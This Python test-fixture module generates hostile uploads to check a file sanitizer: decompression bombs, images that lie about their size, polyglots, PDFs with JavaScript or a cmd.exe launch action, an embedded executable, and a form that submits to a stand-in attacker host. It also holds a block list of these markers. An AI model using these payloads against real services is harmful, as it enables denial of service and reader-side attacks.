"""Files that cost, break or hide: each is made here, in a few lines, none is kept.

A row: name, how it is made, what it is after, and the verdicts that are right. « garde » is a file accepted, and then
what is stored is clean.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image

GARDE = "garde"
MIO = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file: its content on demand, what it attacks, and the codes that answer it."""

    nom: str
    faire: Callable[[], bytes]
    attaque: str
    verdicts: frozenset[str]


def _enregistrer(image: Image.Image, format_: str, **options: object) -> bytes:
    sortie = io.BytesIO()
    image.save(sortie, format_, **options)
    return sortie.getvalue()


# --- PNG


def morceau(nom: bytes, corps: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(corps)) + nom + corps + struct.pack(">I", zlib.crc32(nom + corps))


def gonfle(taille: int, octet: bytes = b"\0", debut: bytes = b"") -> bytes:
    """Return what inflates to `debut` and so many bytes: one pressed block again and again, so it is made at once."""
    presse, bloc = zlib.compressobj(9), octet * MIO

    def presser(quoi: bytes) -> bytes:
        return presse.compress(quoi) + presse.flush(zlib.Z_FULL_FLUSH)

    tete, blocs, reste = presser(debut), presser(bloc) * (taille // MIO), presser(octet * (taille % MIO))
    somme = zlib.adler32(debut)
    for _ in range(taille // MIO):
        somme = zlib.adler32(bloc, somme)
    return tete + blocs + reste + b"\3\0" + struct.pack(">I", zlib.adler32(octet * (taille % MIO), somme))


def png(
    largeur: int, hauteur: int, *, bits: int = 1, genre: int = 0, avant: bytes = b"", donnees: bytes = b""
) -> bytes:
    """Return a PNG with the size that it claims, chunks before its pixels, and those pixels (none: a few)."""
    entete = morceau(b"IHDR", struct.pack(">IIBBBBB", largeur, hauteur, bits, genre, 0, 0, 0))
    pixels = morceau(b"IDAT", donnees or gonfle(64))
    return b"\x89PNG\r\n\x1a\n" + entete + avant + pixels + morceau(b"IEND", b"")


def _png_haut() -> bytes:
    return png(1, 60_000_000, donnees=gonfle(120_000_000))


def _png_carre() -> bytes:
    return png(7_745, 7_745, bits=8, donnees=gonfle(7_745 * 7_746))


def _png_ztxt() -> bytes:
    return png(8, 8, avant=morceau(b"zTXt", b"a\0\0" + gonfle(50 * MIO)) * 20)


def _png_iccp() -> bytes:
    return png(8, 8, avant=morceau(b"iCCP", b"a\0\0" + gonfle(500 * MIO)))


def _png_itxt() -> bytes:
    return png(8, 8, avant=morceau(b"iTXt", b"a\0\1\0\0\0" + gonfle(500 * MIO)))


def _png_lourd() -> bytes:
    return png(8, 8, avant=morceau(b"tEXt", b"a\0" + b"x" * (9 * MIO)))


def _png_morceaux() -> bytes:
    return png(8, 8, avant=morceau(b"tEXt", b"a\0b") * 500_000)


def _png_trop_de_pixels() -> bytes:
    return png(8, 8, donnees=gonfle(800 * MIO))


def _png_tronque() -> bytes:
    return _enregistrer(Image.effect_noise((600, 600), 40), "PNG")[:-20_000]


def _apng() -> bytes:
    vues = [Image.new("RGBA", (400, 400), (n, 0, 0, 255)) for n in range(60)]
    return _enregistrer(vues[0], "PNG", save_all=True, append_images=vues[1:])


def _png_puis_html() -> bytes:
    return png(8, 8) + b"<html><script>alert(1)</script></html>"


# --- JPEG


def _jpeg(taille: tuple[int, int], couleur: str = "#0E4A57", mode: str = "RGB", **options: object) -> bytes:
    return _enregistrer(Image.new(mode, taille, couleur), "JPEG", **options)


def retailler(brut: bytes, largeur: int, hauteur: int) -> bytes:
    """Return a JPEG that claims another size than it holds."""
    cadre = next(brut.index(marque) for marque in (b"\xff\xc0", b"\xff\xc2") if marque in brut)
    return brut[: cadre + 5] + struct.pack(">HH", hauteur, largeur) + brut[cadre + 9 :]


def _jpeg_menteur() -> bytes:
    return retailler(_jpeg((16, 16)), 65_500, 65_500)


def _jpeg_progressif_menteur() -> bytes:
    return retailler(_jpeg((16, 16), progressive=True, subsampling=0), 7_700, 7_700)


def _jpeg_passes() -> bytes:
    brut = _jpeg((1600, 1600), progressive=True)
    debut = brut.rindex(b"\xff\xda")
    passe = brut[debut : brut.rindex(b"\xff\xd9")]
    return brut[:debut] + passe * 100 + b"\xff\xd9"


def _jpeg_segments() -> bytes:
    return b"\xff\xd8" + b"\xff\xe1\0\x04ab" * 1_600_000 + _jpeg((16, 16))[2:]


def _jpeg_exif() -> bytes:
    # A directory of tags that names itself as the next one.
    tiff = (
        b"II*\0\x08\0\0\0"
        + struct.pack("<H", 65_000)
        + b"\x12\x01\x03\0\xff\xff\xff\xff\0\0\0\0" * 5_000
        + b"\x08\0\0\0"
    )
    corps = b"Exif\0\0" + tiff
    return b"\xff\xd8\xff\xe1" + struct.pack(">H", len(corps) + 2) + corps + _jpeg((16, 16))[2:]


def _jpeg_tronque() -> bytes:
    return _enregistrer(Image.effect_noise((900, 900), 40), "JPEG")[:-30_000]


def _jpeg_sans_fin() -> bytes:
    return b"\xff\xd8\xff" + b"\xff" * (9 * MIO)


def _mpo() -> bytes:
    vues = [Image.new("RGB", (400, 400), (n, 0, 0)) for n in range(40)]
    return _enregistrer(vues[0], "MPO", save_all=True, append_images=vues[1:])


def _jpeg_zip() -> bytes:
    return _jpeg((16, 16)) + b"PK\x03\x04" + b"<script>alert(1)</script>" * 1000


def _jpeg_cmjn() -> bytes:
    return _jpeg((5_119, 5_119), (9, 9, 9, 9), "CMYK", progressive=True, subsampling=0)  # type: ignore[arg-type]


# --- WebP


def _webp(genre: bytes, corps: bytes) -> bytes:
    bloc = genre + struct.pack("<I", len(corps)) + corps
    return b"RIFF" + struct.pack("<I", len(bloc) + 4) + b"WEBP" + bloc


def _webp_menteur() -> bytes:
    return _webp(b"VP8X", b"\x02\0\0\0" + (16_383).to_bytes(3, "little") * 2)


def _webp_sans_perte() -> bytes:
    return _webp(b"VP8L", b"\x2f" + (0x3FFF | 0x3FFF << 14).to_bytes(4, "little") + b"\0" * 50)


def _webp_vrai() -> bytes:
    return _enregistrer(Image.new("RGB", (12_500, 64)), "WEBP")


def _webp_anime() -> bytes:
    vues = [Image.new("RGB", (300, 300), (n, 0, 0)) for n in range(100)]
    return _enregistrer(vues[0], "WEBP", save_all=True, append_images=vues[1:], method=0)


# --- PDF


def pdf(**catalogue: object) -> bytes:
    """Return a page, and what its catalogue holds besides."""
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for nom, valeur in catalogue.items():
            document.Root[f"/{nom}"] = document.make_indirect(valeur)
        document.save(sortie, deterministic_id=True)
    return sortie.getvalue()


def pdf_gonfle(taille: int = 1_400 * MIO) -> bytes:
    """Return a PDF whose catalogue stands in a stream that inflates."""
    contenu = gonfle(taille, b" ", b"2 0 <</Type/Catalog/Pages 3 0 R>>")
    objets = {
        1: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(contenu), contenu),
        3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 10 10]>>",
    }
    sortie, places = b"%PDF-1.5\n", {}
    for numero, corps in objets.items():
        places[numero] = len(sortie)
        sortie += b"%d 0 obj%b endobj\n" % (numero, corps)
    places[5] = len(sortie)
    table = struct.pack(">BIB", 0, 0, 0) + struct.pack(">BIB", 1, places[1], 0) + struct.pack(">BIB", 2, 1, 0)
    table += b"".join(struct.pack(">BIB", 1, places[numero], 0) for numero in (3, 4, 5))
    plan = b"5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(table)
    return sortie + plan + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % places[5]


def pdf_brut(*objets: bytes, racine: bytes = b"1 0 R") -> bytes:
    """Return a PDF without a table of its objects, which a reader has to find by itself."""
    corps = b"".join(b"%d 0 obj%b endobj\n" % (numero, objet) for numero, objet in enumerate(objets, 1))
    return b"%PDF-1.4\n" + corps + b"trailer<</Root " + racine + b"/Size %d>>\n%%%%EOF" % (len(objets) + 1)


def _pdf_profond() -> bytes:
    return pdf_brut(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"[" * 200_000)


def _pdf_pages_en_rond() -> bytes:
    return pdf_brut(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>")


def _pdf_pages() -> bytes:
    enfants = b"3 0 R " * 1_000_000
    return pdf_brut(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[%b]>>" % enfants, b"<</Type/Page>>")


def _pdf_objets() -> bytes:
    tete = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R>>")
    return pdf_brut(*tete, *[b"<</JS(a)>>"] * 250_000)


def _pdf_secret() -> bytes:
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(sortie, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return sortie.getvalue()


def script(quoi: str = "app.alert(1)") -> pikepdf.Dictionary:
    """Return an action that runs a script."""
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(quoi))


def _pdf_script() -> bytes:
    return pdf(OpenAction=script())


def _pdf_lancement() -> bytes:
    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def _pdf_joint() -> bytes:
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["facture.exe"] = b"MZ programme"
        document.save(sortie, deterministic_id=True)
    return sortie.getvalue()


def _pdf_formulaire() -> bytes:
    envoi = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://pirate.exemple"))
    return pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"), Fields=[], Envoi=envoi))


def _pdf_revise() -> bytes:
    # What a first version ran, and the second only no longer names, is there for whoever reads the file itself.
    return _pdf_script() + b"\n%%EOF\n9 0 obj<</Type/Catalog/JavaScript(app.alert)>>endobj\n"


def _refuse(*codes: str) -> frozenset[str]:
    return frozenset(codes)


_GRANDE = _refuse("image_trop_grande")
_ABIMEE = _refuse("image_illisible")
_INCONNU = _refuse("type_refuse")
_PDF = _refuse("pdf_illisible")
_COUTEUX = _refuse("fichier_trop_couteux", "pdf_illisible")
_GARDE = _refuse(GARDE)

HOSTILES = [
    Hostile("PNG of 1 × 60,000,000", _png_haut, "memory of the decoder: 1 GiB", _GRANDE),
    Hostile("PNG of 60 megapixels", _png_carre, "memory of the decoder", _GRANDE),
    Hostile("PNG of 2³¹ × 2³¹", lambda: png(2**31 - 1, 2**31 - 1), "overflow of sizes", _GRANDE),
    Hostile("PNG of 0 × 0", lambda: png(0, 0), "division, empty buffers", _refuse("image_illisible", "type_refuse")),
    Hostile("PNG, texts of 50 MB", _png_ztxt, "inflation of texts", _GARDE),
    Hostile("PNG, profile of 500 MB", _png_iccp, "inflation of the colour profile", _GARDE),
    Hostile("PNG, words of 500 MB", _png_itxt, "inflation of texts", _GARDE),
    Hostile("PNG, text of 9 MB", _png_lourd, "memory, storage", _GARDE),
    Hostile("PNG of 500,000 chunks", _png_morceaux, "time of the parser", _INCONNU),
    Hostile(
        "PNG, 800 MB of pixels for 64", _png_trop_de_pixels, "inflation of pixels", _refuse(GARDE, "image_illisible")
    ),
    Hostile("PNG cut short", _png_tronque, "error path of the decoder", _ABIMEE),
    Hostile("APNG of 60 frames", _apng, "time of all frames", _GARDE),
    Hostile("PNG followed by a page", _png_puis_html, "a page in our name", _GARDE),
    Hostile("JPEG of 65,500 × 65,500", _jpeg_menteur, "memory of the decoder: 12 GiB", _GRANDE),
    Hostile("progressive JPEG of 59 megapixels", _jpeg_progressif_menteur, "memory of coefficients", _GRANDE),
    Hostile("JPEG of 100 passes", _jpeg_passes, "time of the decoder", _INCONNU),
    Hostile("JPEG of 1,600,000 segments", _jpeg_segments, "time of the parser", _INCONNU),
    Hostile("JPEG, tags in a ring", _jpeg_exif, "parser of tags", _refuse(GARDE, "image_illisible")),
    Hostile("JPEG cut short", _jpeg_tronque, "error path of the decoder", _ABIMEE),
    Hostile("JPEG of filling bytes", _jpeg_sans_fin, "time of the parser", _INCONNU),
    Hostile("MPO of 40 pictures", _mpo, "time of all pictures", _GARDE),
    Hostile("JPEG followed by an archive", _jpeg_zip, "a second kind of file in one", _GARDE),
    Hostile("progressive JPEG, four inks", _jpeg_cmjn, "memory of coefficients", _GRANDE),
    Hostile("WebP of 16,384 × 16,384", _webp_menteur, "memory of the canvas: 2 GiB", _GRANDE),
    Hostile("WebP without loss, same", _webp_sans_perte, "memory of the canvas: 2 GiB", _GRANDE),
    Hostile("WebP of 12,500 a side", _webp_vrai, "one side beyond the others", _GRANDE),
    Hostile("WebP of 100 frames", _webp_anime, "time of all frames", _GARDE),
    Hostile("PDF of 1.4 MB that inflates to 1.4 GB", pdf_gonfle, "memory: 2 GiB, 31 s", _COUTEUX),
    Hostile("PDF of 200,000 brackets", _pdf_profond, "stack of the parser", _refuse(GARDE, *_COUTEUX)),
    Hostile("PDF, pages in a ring", _pdf_pages_en_rond, "endless walk", _PDF),
    Hostile("PDF, a million times one page", _pdf_pages, "time and memory of pages", _COUTEUX),
    Hostile("PDF of 250,000 scripts", _pdf_objets, "time of our own cleaning", _COUTEUX),
    Hostile("PDF with a password", _pdf_secret, "what nobody can examine", _PDF),
    Hostile("PDF that runs a script", _pdf_script, "scripts of readers", _GARDE),
    Hostile("PDF that launches a program", _pdf_lancement, "programs of readers", _GARDE),
    Hostile("PDF with a program inside", _pdf_joint, "embedded files", _GARDE),
    Hostile("PDF that sends a form", _pdf_formulaire, "requests, dynamic forms", _GARDE),
    Hostile("PDF, script of a former version", _pdf_revise, "two readings of one file", _GARDE),
]
INTERDITS = (b"JavaScript", b"/Launch", b"cmd.exe", b"EmbeddedFile", b"/XFA", b"SubmitForm", b"<script>", b"PK\x03\x04")
